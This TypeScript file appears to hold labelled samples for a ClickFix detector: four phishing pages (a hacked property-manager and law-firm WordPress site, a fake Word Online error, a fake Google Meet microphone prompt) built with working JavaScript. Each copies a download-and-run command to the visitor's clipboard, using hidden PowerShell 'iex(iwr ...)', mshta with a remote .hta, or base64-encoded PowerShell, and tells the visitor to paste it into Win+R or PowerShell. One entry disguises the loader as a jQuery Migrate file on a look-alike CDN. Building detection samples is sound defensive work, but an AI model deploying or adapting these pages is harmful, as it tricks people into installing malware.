import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, charCodes, wpSite } from '../parts/yf-kit.js';

// ClickFix / fake-CAPTCHA pages that talk the visitor into pasting a command.

const recapOverlay = (cmdExpr: string): string => `;(function(){
  var cmd = ${cmdExpr};
  var css = '#rc-ov{position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:999999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif}' +
    '#rc-ov .bx{width:320px;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:14px;display:flex;align-items:center;justify-content:space-between}' +
    '#rc-ov .ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}' +
    '#rc-ov .st{display:none;width:400px;background:#fff;border:1px solid #ccc;box-shadow:0 4px 14px rgba(0,0,0,.2);padding:0}' +
    '#rc-ov .st .hd{background:#1a73e8;color:#fff;padding:18px;font-size:18px}#rc-ov .st ol{font-size:15px;line-height:2;padding:14px 34px}#rc-ov kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}' +
    '#rc-ov .st button{margin:0 18px 18px;float:right;background:#1a73e8;color:#fff;border:0;padding:9px 22px;border-radius:2px}';
  var s = document.createElement('style'); s.textContent = css; document.head.appendChild(s);
  var o = document.createElement('div'); o.id = 'rc-ov';
  o.innerHTML = '<div><div class="bx" id="rc-bx"><label style="display:flex;align-items:center;gap:12px;font-size:14px"><span class="ck" id="rc-ck"></span>I\\'m not a robot</label><div style="text-align:center;font-size:10px;color:#555"><div style="font-size:26px">&#8635;</div>reCAPTCHA<br>Privacy - Terms</div></div>' +
    '<div class="st" id="rc-st"><div class="hd">Verification Steps</div><ol><li>Press &amp; hold the Windows Key <kbd>&#8862;</kbd> + <kbd>R</kbd></li><li>In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> on your keyboard to finish</li></ol><p style="font-size:12px;color:#666;padding:0 18px">You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 4471"</p><button id="rc-ok">Verify</button></div></div>';
  document.body.appendChild(o);
  function copy(t){ if (navigator.clipboard && navigator.clipboard.writeText) return navigator.clipboard.writeText(t).catch(fallback); fallback(); function fallback(){ var ta = document.createElement('textarea'); ta.value = t; ta.style.position = 'fixed'; ta.style.opacity = '0'; document.body.appendChild(ta); ta.select(); document.execCommand('copy'); ta.remove(); } }
  document.getElementById('rc-ck').onclick = function(){ copy(cmd); document.getElementById('rc-bx').style.display = 'none'; document.getElementById('rc-st').style.display = 'block'; };
  document.getElementById('rc-ok').onclick = function(){ copy(cmd); };
})();`;

const wpCmd = `powershell -w h -nop -c "iex(iwr 'https://verify-cdn-cloud.com/c/4471.ps1' -UseBasicParsing)" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 4471''`;
const mshtaCmd = 'mshta https://captcha-check-nz.com/v/verify.hta # I am not a robot - Cloudflare ID 83a1f';
const wordPs = `$ErrorActionPreference='SilentlyContinue';$r=iwr -useb 'https://office-fix-cdn.com/wdfix.txt';iex $r.Content;Write-Host 'Microsoft Word cache repaired successfully.'`;

export const entries: Entry[] = [
  {
    id: 'yf-clickfix-wp-property-manager-recaptcha',
    label: 'clickfix',
    kind: 'clickfix-hacked-wp',
    url: 'https://www.fraservalleyrentals.ca/tenants/maintenance-request/',
    body: wpSite({
      name: 'Fraser Valley Rentals',
      tagline: 'Residential property management in Abbotsford, Chilliwack & Langley',
      host: 'www.fraservalleyrentals.ca',
      menu: ['Home', 'Owners', 'Tenants', 'Available Rentals', 'Contact'],
      accent: '#3d5a80',
      lang: 'en-CA',
      main: `<section class="hero"><h1>Maintenance Request</h1><p>Tenants: submit non-urgent repairs here. For emergencies call 604-555-0147.</p></section>
<section class="content"><form><p><label>Your name<br><input name="n"></label></p><p><label>Unit address<br><input name="a"></label></p><p><label>Describe the issue<br><textarea rows="4" name="d"></textarea></label></p><p><button type="button">Submit request</button></p></form></section>`,
      bodyEnd: `<script>${recapOverlay(JSON.stringify(wpCmd))}</script>`,
    }),
  },
  {
    id: 'yf-clickfix-word-online-powershell-fix',
    label: 'clickfix',
    kind: 'clickfix-document-error',
    url: 'https://word-online.docview-365.com/document/Engagement_Letter_2024.docx',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Engagement_Letter_2024.docx - Microsoft Word Online</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}
.rb{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-size:15px;font-weight:600}
.pg{width:640px;max-width:94%;margin:24px auto;background:#fff;min-height:760px;filter:blur(3px);padding:60px;box-sizing:border-box;color:#444}
.er{position:fixed;left:50%;top:28%;transform:translateX(-50%);width:520px;max-width:94%;background:#fff;border-top:4px solid #c50f1f;box-shadow:0 6px 30px rgba(0,0,0,.3);padding:24px 28px}
.er h3{margin:0 0 10px;color:#c50f1f}
.er ol{line-height:1.9;font-size:14px}
kbd{background:#f0f0f0;border:1px solid #bbb;border-radius:3px;padding:0 5px}
.er button{background:#185abd;color:#fff;border:0;padding:10px 22px;font-size:14px;cursor:pointer}
#done{display:none;color:#107c10;font-size:13px;margin-left:10px}
</style></head>
<body>
<div class="rb">Word &nbsp;&middot;&nbsp; Engagement_Letter_2024.docx</div>
<div class="pg"><h2>LETTER OF ENGAGEMENT</h2><p>Dear Client,</p><p>This letter confirms the terms of our engagement to prepare your 2024 income tax return and financial statements...</p></div>
<div class="er">
<h3>&#9888; Error: "Word Online" extension is not installed</h3>
<p style="font-size:14px">The document could not be displayed correctly. To view it, the Word Online extension needs to be repaired on this device.</p>
<b style="font-size:14px">How to fix:</b>
<ol><li>Click <b>Copy fix</b> below</li><li>Right-click the Start button and select <b>Windows PowerShell</b> (or press <kbd>Win</kbd>+<kbd>X</kbd>, then <kbd>I</kbd>)</li><li>Right-click inside the window to paste, then press <kbd>Enter</kbd></li><li>Reload this page</li></ol>
<button id="cp">Copy fix</button><span id="done">Copied to clipboard</span>
</div>
<script>
var z = '${b64(wordPs)}';
document.getElementById('cp').onclick = function(){
  var c = 'powershell -ep bypass -enc ' + btoa(Array.prototype.map.call(atob(z), function(ch){ return ch + '\\u0000'; }).join(''));
  navigator.clipboard.writeText(c).then(function(){ document.getElementById('done').style.display = 'inline'; });
};
</script>
</body></html>`,
  },
  {
    id: 'yf-clickfix-meet-microphone-fix',
    label: 'clickfix',
    kind: 'clickfix-meeting',
    url: 'https://meet.google-join.us/kxa-rtnb-qwe',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Meet - kxa-rtnb-qwe</title>
<style>
body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}
.v{width:720px;max-width:94%;height:400px;margin:60px auto 0;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;font-size:64px;color:#8ab4f8}
.pop{position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:460px;background:#fff;color:#202124;border-radius:8px;padding:24px;box-shadow:0 4px 24px rgba(0,0,0,.5)}
.pop h3{margin:0 0 8px}
.pop button{margin-top:14px;background:#1a73e8;color:#fff;border:0;padding:10px 24px;border-radius:4px;font-size:14px}
.steps{display:none;font-size:14px;line-height:1.8;background:#f1f3f4;border-radius:6px;padding:10px 14px;margin-top:12px}
</style></head>
<body>
<div class="v">&#127908;</div>
<div class="pop">
<h3>Microphone access problem</h3>
<p style="font-size:14px">Your microphone is blocked by a browser issue. Other participants (Kowalski Family Trust &ndash; year-end meeting) cannot hear you.</p>
<button id="fx">Fix it</button>
<div class="steps" id="st"><b>Fixing instructions:</b><br>1. Press <b>Windows + R</b><br>2. Press <b>Ctrl + V</b><br>3. Press <b>Enter</b><br>The audio driver will be reset and you will rejoin automatically.</div>
</div>
<textarea id="t" style="position:absolute;left:-9999px"></textarea>
<script>
document.getElementById('fx').onclick = function(){
  var t = document.getElementById('t');
  t.value = String.fromCharCode(${charCodes(mshtaCmd)});
  t.select(); document.execCommand('copy');
  document.getElementById('st').style.display = 'block';
};
</script>
</body></html>`,
  },
  {
    id: 'yf-clickfix-nz-lawfirm-wp-injected-loader',
    label: 'clickfix',
    kind: 'clickfix-hacked-wp',
    url: 'https://www.tekaurilegal.co.nz/conveyancing/',
    body: wpSite({
      name: 'Te Kauri Legal',
      tagline: 'Property, trusts and estates lawyers in Whangārei',
      host: 'www.tekaurilegal.co.nz',
      menu: ['Home', 'Conveyancing', 'Wills & Estates', 'Trusts', 'Our Team', 'Contact'],
      accent: '#1f4e3d',
      lang: 'en-NZ',
      main: `<section class="hero"><h1>Conveyancing</h1><p>Fixed-fee conveyancing for buyers and sellers across Northland.</p></section>
<section class="content"><p>Buying or selling a home is one of the biggest financial decisions you will make. Our team will guide you through the sale and purchase agreement, due diligence, LIM reports and settlement.</p><p><b>Fixed fee from $1,450 + GST and disbursements.</b></p><p>Contact us: (09) 430 2218 &middot; reception@tekaurilegal.co.nz</p></section>`,
      headExtra: `<script src="https://cdn-jsdelivr-static.com/npm/jquery-migrate@3.4.1/jquery-migrate.min.js" async></script>`,
    }),
    routes: {
      'cdn-jsdelivr-static.com/npm/jquery-migrate@3.4.1/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function(){var w=window,d=document;if(!/Win/.test(navigator.platform||navigator.userAgent))return;if(localStorage.getItem('__cf_v')==='1')return;
function go(){${recapOverlay(`atob('${b64(mshtaCmd)}')`)}
var b=d.getElementById('rc-ok');if(b)b.addEventListener('click',function(){localStorage.setItem('__cf_v','1')});}
if(d.readyState==='loading')d.addEventListener('DOMContentLoaded',go);else go();})();`),
    },
  },
];
